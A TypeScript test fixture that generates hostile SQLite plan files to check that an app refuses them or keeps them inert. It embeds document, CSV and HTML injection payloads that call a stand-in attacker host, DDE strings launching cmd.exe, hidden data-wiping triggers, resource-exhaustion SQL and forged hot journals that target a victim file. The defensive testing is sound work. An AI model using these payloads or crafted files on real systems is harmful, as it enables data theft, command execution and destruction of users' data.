/**
 * Plan files built to do harm, generated from the example plan: the right identity and a plausible
 * schema plus something extra (triggers and views, hidden under SQLite's reserved `sqlite_` names or
 * not, constraints and generated columns that cost minutes, an older format with extras), hot
 * journals that turn the file into something else when SQLite rolls them back, header tampering
 * and huge text. Each entry says what must become of it.
 */
import BetterSqlite3 from 'better-sqlite3';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { findSection } from '../../src/domain/plan';
import { EXPORT_LIMITS } from '../../src/export/budget';
import { APPLICATION_ID } from '../../src/storage/fileFormat';
import { FORMAT_VERSION } from '../../src/storage/migrations';
import { createPlanFile } from '../../src/storage/planFile';
import { fillFromJson } from '../../src/storage/planJson';
import { loadExamplePlan } from '../../src/storage/examplePlan';
import { REPO } from './common';

export interface HostileFile {
  label: string;
  path: string;
  /** refused: must be refused; either: may open, but then inert (an edit changes only itself). */
  outcome: 'refused' | 'either';
  /** A file that must still exist, unchanged, afterwards (the victim a journal names). */
  victim?: string;
  /** What its exports must do once it opened: be refused with a message (too much to export), or be written, inert. */
  exports?: 'refused' | 'written';
}

/**
 * Put after the text of every text field: markup for the print view and the web page, field codes
 * and XML for Word, formulas for a spreadsheet, a link for every format, a direction override.
 */
export const HOSTILE_TEXT = [
  '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT \\\\aanvaller.example\\share\\x.docx"><w:r><w:t>veld</w:t></w:r></w:fldSimple><w:r><w:t>',
  '<w:instrText> HYPERLINK "http://aanvaller.example/word" </w:instrText>',
  '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }',
  '=HYPERLINK("http://aanvaller.example/csv?"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<script>fetch("http://aanvaller.example/html")</script><img src=x onerror=alert(1)>',
  ']]><!-- \u202Eexe.txt',
].join(' ');

/** The widgets whose values are free text. */
const TEXT_WIDGETS = new Set(['text', 'longText', 'email', 'phone']);

const ENDLESS = 'WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT max(x) FROM r';
/** An expression that builds a 200 MB string every time it is evaluated. */
const COSTLY = "length(printf('%.*c', 200000000, 'x')) > 0";

export function examplePlanFile(path: string): string {
  createPlanFile(path, (db) => fillFromJson(db, loadExamplePlan(join(REPO, 'resources', 'examples'), 'nl'))).close();
  return path;
}

/** Plain SQLite with its guards off, as someone crafting a file would use it. */
function craft(base: string, path: string, work: (db: BetterSqlite3.Database) => void): void {
  copyFileSync(base, path);
  const db = new BetterSqlite3(path);
  try {
    db.unsafeMode(true);
    db.pragma('foreign_keys = OFF');
    work(db);
  } finally {
    db.close();
  }
}

/** Writes a row into sqlite_schema directly: how an object gets a reserved name, or any SQL at all. */
function writeSchema(db: BetterSqlite3.Database, sql: string): void {
  db.pragma('writable_schema = ON');
  db.exec(sql);
  db.pragma('writable_schema = RESET');
}

const JOURNAL_MAGIC = Buffer.from('d9d505f920a163d7', 'hex');

/**
 * A rollback journal made by hand, as SQLite writes one
 * (https://www.sqlite.org/fileformat2.html#the_rollback_journal): when SQLite next opens the plan
 * it finds it hot and writes `pages` back into the file.
 */
export function handMadeJournal(
  pages: { number: number; data: Buffer }[],
  pageCount: number,
  pageSize: number,
  superJournal?: string,
): Buffer {
  const sector = 512;
  const nonce = 0x1234567;
  const header = Buffer.alloc(sector);
  JOURNAL_MAGIC.copy(header, 0);
  header.writeUInt32BE(pages.length, 8);
  header.writeUInt32BE(nonce, 12);
  header.writeUInt32BE(pageCount, 16);
  header.writeUInt32BE(sector, 20);
  header.writeUInt32BE(pageSize, 24);
  const records = pages.map(({ number, data }) => {
    const record = Buffer.alloc(4 + pageSize + 4);
    record.writeUInt32BE(number, 0);
    data.copy(record, 4, 0, pageSize);
    let sum = nonce;
    for (let i = pageSize - 200; i > 0; i -= 200) sum = (sum + data[i]!) >>> 0;
    record.writeUInt32BE(sum, 4 + pageSize);
    return record;
  });
  const parts = [header, ...records];
  if (superJournal) {
    const name = Buffer.from(superJournal, 'utf8');
    const tail = Buffer.alloc(4 + name.length + 16);
    tail.writeUInt32BE(Math.floor(0x40000000 / pageSize) + 1, 0);
    name.copy(tail, 4);
    tail.writeUInt32BE(name.length, 4 + name.length);
    tail.writeUInt32BE(
      [...name].reduce((sum, byte) => (sum + byte) >>> 0, 0),
      8 + name.length,
    );
    JOURNAL_MAGIC.copy(tail, 12 + name.length);
    parts.push(tail);
  }
  return Buffer.concat(parts);
}

function firstPageOf(path: string): { page: Buffer; pageSize: number; pageCount: number } {
  const bytes = readFileSync(path);
  const pageSize = bytes.readUInt16BE(16);
  return { page: bytes.subarray(0, pageSize), pageSize, pageCount: bytes.length / pageSize };
}

/** A hot journal beside `path` that writes page 1 of `source` into it on the next open. */
function journalFrom(path: string, source: string, superJournal?: string): void {
  const { pageSize, pageCount } = firstPageOf(path);
  const { page } = firstPageOf(source);
  writeFileSync(`${path}-journal`, handMadeJournal([{ number: 1, data: page }], pageCount, pageSize, superJournal));
}

/** Puts `text` after the value of every free-text field of every record and item. */
function appendToEveryText(db: BetterSqlite3.Database, text: string): void {
  const hostile = (section: string, data: string) => {
    const record = JSON.parse(data) as Record<string, unknown>;
    for (const field of findSection(section)?.fields ?? [])
      if (TEXT_WIDGETS.has(field.widget)) record[field.name] = `${String(record[field.name] ?? '')} ${text}`.trim();
    return JSON.stringify(record);
  };
  const records = db.prepare<[], { section: string; data: string }>('SELECT section, data FROM section_records').all();
  const items = db
    .prepare<[], { id: string; section: string; data: string }>('SELECT id, section, data FROM items')
    .all();
  db.transaction(() => {
    for (const { section, data } of records)
      db.prepare('UPDATE section_records SET data = ? WHERE section = ?').run(hostile(section, data), section);
    for (const { id, section, data } of items)
      db.prepare('UPDATE items SET data = ? WHERE id = ?').run(hostile(section, data), id);
  })();
}

/** Writes the corpus into `dir` from the example plan. */
export function buildHostileCorpus(dir: string, options: { hugeTextMb: number; manyItems: number }): HostileFile[] {
  const base = examplePlanFile(join(dir, 'example.source'));
  const corpus: HostileFile[] = [];
  let n = 0;
  const add = (
    label: string,
    outcome: HostileFile['outcome'],
    write: (path: string) => string | void,
    exports?: HostileFile['exports'],
  ) => {
    const path = join(dir, `${String(n++).padStart(3, '0')}.paraat`);
    const started = Date.now();
    const victim = write(path) ?? undefined;
    if (process.env.PARAAT_CORPUS_TIMES) console.log(label, Date.now() - started);
    corpus.push({ label, path, outcome, victim, exports });
  };
  const crafted = (label: string, work: (db: BetterSqlite3.Database) => void) =>
    add(label, 'refused', (path) => craft(base, path, work));

  crafted('a hidden trigger (sqlite_ name) that empties the people list on the next edit', (db) =>
    writeSchema(
      db,
      "INSERT INTO sqlite_schema VALUES ('trigger', 'sqlite_wipe', 'changes', 0, 'CREATE TRIGGER sqlite_wipe AFTER INSERT ON changes BEGIN DELETE FROM items WHERE section = ''people''; END')",
    ),
  );
  crafted('a hidden trigger that rewrites every phone number', (db) =>
    writeSchema(
      db,
      "INSERT INTO sqlite_schema VALUES ('trigger', 'sqlite_stat9', 'section_records', 0, 'CREATE TRIGGER sqlite_stat9 AFTER UPDATE ON section_records BEGIN UPDATE items SET data = json_set(data, ''$.mobile'', ''+32 900 00 000''); END')",
    ),
  );
  crafted('a trigger that plants markup in every name', (db) =>
    db.exec(
      `CREATE TRIGGER plant AFTER UPDATE ON section_records BEGIN UPDATE items SET data = json_set(data, '$.name', '<img src=x onerror=alert(1)>'); END;`,
    ),
  );
  crafted('a trigger that refuses every edit', (db) =>
    db.exec("CREATE TRIGGER refuse BEFORE UPDATE ON section_records BEGIN SELECT RAISE(ABORT, 'nee'); END;"),
  );
  crafted('a trigger that never ends', (db) =>
    db.exec(`CREATE TRIGGER forever AFTER INSERT ON changes BEGIN SELECT (${ENDLESS}); END;`),
  );
  crafted('a hidden view that never ends', (db) =>
    writeSchema(
      db,
      `INSERT INTO sqlite_schema VALUES ('view', 'sqlite_forever', 'sqlite_forever', 0, 'CREATE VIEW sqlite_forever AS ${ENDLESS}')`,
    ),
  );
  crafted('the items table replaced by a view that never ends', (db) =>
    db.exec(
      `ALTER TABLE items RENAME TO kept_items; CREATE VIEW items (id, section, position, data, created_at, updated_at) AS SELECT id, section, position, data, created_at, updated_at FROM kept_items WHERE (${ENDLESS}) > 0;`,
    ),
  );
  crafted('a CHECK constraint that builds 200 MB per row', (db) =>
    writeSchema(
      db,
      `UPDATE sqlite_schema SET sql = replace(sql, 'CHECK (json_valid(data))', 'CHECK (json_valid(data) AND ${COSTLY.replace(/'/g, "''")})') WHERE name = 'items'`,
    ),
  );
  crafted('a generated column that builds 200 MB per row', (db) =>
    writeSchema(
      db,
      `UPDATE sqlite_schema SET sql = replace(sql, 'updated_at TEXT NOT NULL', 'updated_at TEXT NOT NULL, costly INTEGER GENERATED ALWAYS AS (${COSTLY.replace(/'/g, "''")}) VIRTUAL') WHERE name = 'items'`,
    ),
  );
  crafted('an extra table and index of another program', (db) =>
    db.exec('CREATE TABLE stats (tbl, idx, stat); CREATE INDEX extra ON items (data);'),
  );
  crafted('a schema row with a hand-written statement for an existing table', (db) =>
    writeSchema(db, "UPDATE sqlite_schema SET sql = 'CREATE TABLE meta (key TEXT, value TEXT)' WHERE name = 'meta'"),
  );
  add('an older format (1) with a trigger among its tables', 'refused', (path) =>
    craft(base, path, (db) => {
      db.exec('DROP TABLE versions; CREATE TRIGGER older AFTER INSERT ON changes BEGIN DELETE FROM items; END;');
      db.pragma('user_version = 1');
    }),
  );
  add('an older format (1) as Paraat made it', 'either', (path) =>
    craft(base, path, (db) => {
      db.exec('DROP TABLE versions;');
      db.pragma('user_version = 1');
    }),
  );
  add('text as UTF-16', 'refused', (path) => {
    const db = new BetterSqlite3(path);
    db.pragma('encoding = "UTF-16le"');
    db.pragma(`application_id = ${APPLICATION_ID}`);
    db.exec('CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL) STRICT;');
    db.close();
  });
  add('a header asking for a write-ahead log', 'refused', (path) =>
    craft(base, path, (db) => db.pragma('journal_mode = WAL')),
  );
  // Hot journals: what opening makes of the file is not what its header said.
  const foreign = join(dir, 'foreign.source');
  const other = new BetterSqlite3(foreign);
  other.exec('CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL);');
  other.close();
  add('a hot journal that makes it another program’s database', 'refused', (path) => {
    copyFileSync(base, path);
    journalFrom(path, foreign);
  });
  const newer = join(dir, 'newer.source');
  craft(base, newer, (db) => db.pragma(`user_version = ${FORMAT_VERSION + 1}`));
  add('a hot journal that makes it a plan of a newer format', 'refused', (path) => {
    copyFileSync(base, path);
    journalFrom(path, newer);
  });
  const hidden = join(dir, 'hidden.source');
  craft(base, hidden, (db) =>
    writeSchema(
      db,
      "INSERT INTO sqlite_schema VALUES ('trigger', 'sqlite_wipe', 'changes', 0, 'CREATE TRIGGER sqlite_wipe AFTER INSERT ON changes BEGIN DELETE FROM items; END')",
    ),
  );
  add('a hot journal that brings back a hidden trigger', 'refused', (path) => {
    copyFileSync(base, path);
    journalFrom(path, hidden);
  });
  add('a hot journal naming another file as its super-journal', 'refused', (path) => {
    copyFileSync(base, path);
    const victim = join(dir, `${n}.victim.docx`);
    writeFileSync(victim, 'a document of the user\u0000');
    journalFrom(path, base, victim);
    return victim;
  });
  add('a hot journal of its own (an edit cut off by a crash)', 'either', (path) => {
    copyFileSync(base, path);
    journalFrom(path, base);
  });
  add(
    `${options.hugeTextMb} MB of text in one field`,
    'either',
    (path) =>
      craft(base, path, (db) =>
        db
          .prepare("UPDATE section_records SET data = json_set(data, '$.purpose', ?) WHERE section = 'organisation'")
          .run('Doel '.repeat((options.hugeTextMb * 1024 * 1024) / 5)),
      ),
    // Read as the field's default (it is over the 100,000 characters a field holds), and the edit
    // before the exports writes the record again without it: there is nothing large to export.
    'written',
  );
  const fields = Math.ceil((options.hugeTextMb * 1024 * 1024) / 100_000);
  add(
    `${options.hugeTextMb} MB of text in ${fields} incidents of 100,000 characters each`,
    'either',
    (path) =>
      craft(base, path, (db) =>
        addIncidents(db, 'long', fields, `'Lange melding ' || i`, `printf('%.*c', 100000, 'x')`),
      ),
    fields * 100_000 > EXPORT_LIMITS.textBytes ? 'refused' : 'written',
  );
  add(
    `${options.manyItems.toLocaleString('en')} incidents in the log`,
    'either',
    (path) =>
      craft(base, path, (db) =>
        addIncidents(
          db,
          'many',
          options.manyItems,
          `'Melding ' || i`,
          `'Storing aan de printer op de tweede verdieping.'`,
        ),
      ),
    options.manyItems > EXPORT_LIMITS.items ? 'refused' : 'written',
  );
  add(
    'markup, Word field codes and formulas in every text field',
    'either',
    (path) => craft(base, path, (db) => appendToEveryText(db, HOSTILE_TEXT)),
    'written',
  );
  add('JSON nested 100,000 deep in a record', 'either', (path) =>
    craft(base, path, (db) => {
      db.pragma('ignore_check_constraints = ON');
      db.prepare("UPDATE section_records SET data = ? WHERE section = 'organisation'").run(
        `{"name":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      );
    }),
  );
  return corpus;
}

/** Closed incidents made by SQLite itself (fast at any count); title and description are SQL over the row number i. */
function addIncidents(
  db: BetterSqlite3.Database,
  prefix: string,
  count: number,
  titleSql: string,
  descriptionSql: string,
): void {
  db.prepare(
    `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
     INSERT INTO items (id, section, position, data, created_at, updated_at)
     SELECT '${prefix}-' || i, 'incidents', 100000 + i,
            json_object('number', i, 'title', ${titleSql}, 'status', 'closed', 'description', ${descriptionSql}),
            '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z'
     FROM n`,
  ).run(count);
}
